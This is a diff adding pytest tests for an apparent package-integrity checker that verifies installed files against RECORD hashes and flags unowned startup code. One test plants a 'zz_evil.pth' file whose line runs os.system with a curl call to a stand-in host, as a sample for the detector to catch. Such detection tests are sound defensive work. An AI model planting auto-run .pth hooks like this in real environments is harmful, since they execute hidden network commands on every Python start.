@@ -1,0 +1,204 @@
+"""Installed-file verification and unowned code, over fake site directories on disk."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from pytest_mlsupply.findings import Kind, Severity
+from pytest_mlsupply.hashcache import HashCache
+from pytest_mlsupply.snapshot import take_snapshot
+from pytest_mlsupply.verify import find_unowned_code, verify_installed_files
+
+from wheelfactory import install_fake
+
+
+def check(site: Path, cache: HashCache | None = None):
+    snapshot = take_snapshot([str(site)])
+    findings, stats, owners = verify_installed_files(snapshot, cache=cache, quirks=())
+    findings.extend(find_unowned_code(snapshot, owners))
+    return findings, stats
+
+
+def problems(findings) -> list[tuple[str, str, str]]:
+    return [
+        (f.kind.value, f.severity.value, f.subject)
+        for f in findings
+        if f.severity is not Severity.INFO
+    ]
+
+
+@pytest.fixture
+def site(tmp_path: Path) -> Path:
+    folder = tmp_path / "site-packages"
+    install_fake(
+        folder,
+        "demo-model",
+        "1.0",
+        {"demo_model/__init__.py": "W = [1, 2]\n", "demo_model/layers.py": "DEPTH = 3\n"},
+    )
+    install_fake(folder, "helper", "2.0")
+    return folder
+
+
+def test_untouched_environment_has_no_problems(site: Path) -> None:
+    findings, stats = check(site)
+    assert problems(findings) == []
+    assert stats.files_verified == 9  # 3 modules + 2 x (METADATA, WHEEL, INSTALLER)
+    assert stats.not_verifiable == {"RECORD files": 2}
+
+
+def test_appended_byte_is_file_modified(site: Path) -> None:
+    with (site / "demo_model" / "layers.py").open("a") as stream:
+        stream.write("#")
+    findings, _ = check(site)
+    [finding] = [f for f in findings if f.severity is Severity.ERROR]
+    assert (finding.kind, finding.subject) == (Kind.FILE_MODIFIED, "demo-model")
+    assert "demo_model/layers.py was modified after installation" in finding.message
+    assert "RECORD size 10, on disk 11" in finding.message
+    assert finding.expected and finding.expected.startswith("sha256:")
+    assert finding.location == str(site / "demo_model" / "layers.py")
+
+
+def test_deleted_file_is_file_missing(site: Path) -> None:
+    (site / "helper.py").unlink()
+    findings, _ = check(site)
+    assert problems(findings) == [("file-missing", "error", "helper")]
+
+
+def test_edit_that_keeps_size_and_mtime_is_caught_through_the_cache(site: Path) -> None:
+    cache = HashCache()
+    assert problems(check(site, cache)[0]) == []
+    target = site / "demo_model" / "layers.py"
+    before = target.stat()
+    target.write_text("DEPTH = 4\n")  # same size
+    os.utime(target, ns=(before.st_atime_ns, before.st_mtime_ns))
+    findings, stats = check(site, cache)
+    assert problems(findings) == [("file-modified", "error", "demo-model")]
+    assert stats.from_cache == stats.files_verified - 1
+
+
+def test_warm_run_answers_from_the_cache(site: Path) -> None:
+    cache = HashCache()
+    _, cold = check(site, cache)
+    _, warm = check(site, cache)
+    assert cold.from_cache == 0
+    assert warm.from_cache == warm.files_verified == cold.files_verified
+
+
+def test_namespace_init_shared_by_two_distributions(tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    install_fake(site, "ns-a", "1.0", {"ns/__init__.py": "# a\n", "ns/a.py": "A = 1\n"})
+    install_fake(site, "ns-b", "1.0", {"ns/__init__.py": "# b\n", "ns/b.py": "B = 1\n"})
+    findings, _ = check(site)  # ns-b's install overwrote ns-a's __init__.py
+    assert problems(findings) == []
+
+
+def test_startup_code_nobody_owns(site: Path) -> None:
+    (site / "zz_evil.pth").write_text("import os; os.system('curl example.invalid')\n")
+    (site / "extra_paths.pth").write_text("/opt/models\n# a comment\n")
+    (site / "sitecustomize.py").write_text("print('hi')\n")
+    (site / "stray.py").write_text("X = 1\n")
+    findings, _ = check(site)
+    assert sorted(problems(findings)) == [
+        ("unowned-module", "warning", "stray.py"),
+        ("unowned-startup-code", "error", "sitecustomize.py"),
+        ("unowned-startup-code", "error", "zz_evil.pth"),
+    ]
+    pth = next(f for f in findings if f.subject == "zz_evil.pth")
+    assert "import os; os.system" in pth.message
+
+
+def test_owned_startup_hook_is_listed_not_flagged(tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    install_fake(
+        site,
+        "setuptools",
+        "80.0",
+        {
+            "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n",
+            "_distutils_hack/__init__.py": "\n",
+        },
+    )
+    findings, _ = check(site)
+    assert problems(findings) == []
+    [hook] = [f for f in findings if f.kind is Kind.STARTUP_HOOK]
+    assert "belongs to setuptools" in hook.message
+
+
+def test_rows_that_cannot_be_verified_are_counted_not_flagged(tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    install_fake(
+        site,
+        "pretend",
+        "1.0",
+        extra_record_rows=[
+            ("__pycache__/pretend.cpython-311.pyc", "", ""),
+            ("pretend-1.0.dist-info/REQUESTED", "", ""),
+        ],
+    )
+    findings, stats = check(site)
+    assert problems(findings) == []
+    assert stats.not_verifiable == {
+        "RECORD files": 1,
+        "compiled .pyc files": 1,
+        "rows without a hash": 1,
+    }
+
+
+def test_hex_spelled_record_hashes_are_a_known_quirk(tmp_path: Path) -> None:
+    import hashlib
+
+    site = tmp_path / "site"
+    data = "X = 1\n"
+    hex_digest = hashlib.sha256(data.encode()).hexdigest()
+    dist_info = install_fake(site, "uvbuilt", "0.1", {"uvbuilt.py": data})
+    record = dist_info / "RECORD"
+    lines = [
+        f"uvbuilt.py,sha256={hex_digest},{len(data)}" if line.startswith("uvbuilt.py,") else line
+        for line in record.read_text().splitlines()
+    ]
+    record.write_text("\n".join(lines) + "\n")
+    findings, _ = check(site)
+    assert problems(findings) == []
+    assert [f.kind for f in findings] == [Kind.KNOWN_QUIRK]
+
+
+def test_virtualenv_files_are_noted(tmp_path: Path) -> None:
+    root = tmp_path / "env"
+    site = root / "lib" / "python3.11" / "site-packages"
+    install_fake(site, "helper", "1.0")
+    (root / "pyvenv.cfg").write_text("home = /usr/bin\nvirtualenv = 20.26.0\n")
+    (site / "_virtualenv.pth").write_text("import _virtualenv\n")
+    (site / "_virtualenv.py").write_text("# patches\n")
+    findings, _ = check(site)
+    assert problems(findings) == []
+    (root / "pyvenv.cfg").write_text("home = /usr/bin\n")  # plain venv: not virtualenv's
+    assert ("unowned-startup-code", "error", "_virtualenv.pth") in problems(check(site)[0])
+
+
+def test_hidden_copies_own_their_files_and_are_verified(tmp_path: Path) -> None:
+    first, second = tmp_path / "first", tmp_path / "second"
+    install_fake(first, "demo", "2.0")
+    install_fake(second, "demo", "1.0", {"demo.py": "OLD = True\n"})
+    snapshot = take_snapshot([str(first), str(second)])
+    findings, stats, owners = verify_installed_files(snapshot, quirks=())
+    findings.extend(find_unowned_code(snapshot, owners))
+    assert problems(findings) == []  # the hidden demo.py is owned, not a stray
+    assert stats.files_verified == 8
+    (second / "demo.py").write_text("OLD = False\n")
+    findings, _, _ = verify_installed_files(snapshot, quirks=())
+    assert problems(findings) == [("file-modified", "error", "demo")]
+
+
+def test_record_less_distributions_own_their_top_level_names(tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    dist_info = install_fake(
+        site, "debianpkg", "1.0", {"debianpkg/__init__.py": "\n"}, record=False
+    )
+    (dist_info / "top_level.txt").write_text("debianpkg\n")
+    (site / "stray.py").write_text("\n")
+    findings, _ = check(site)
+    assert problems(findings) == [("unowned-module", "warning", "stray.py")]
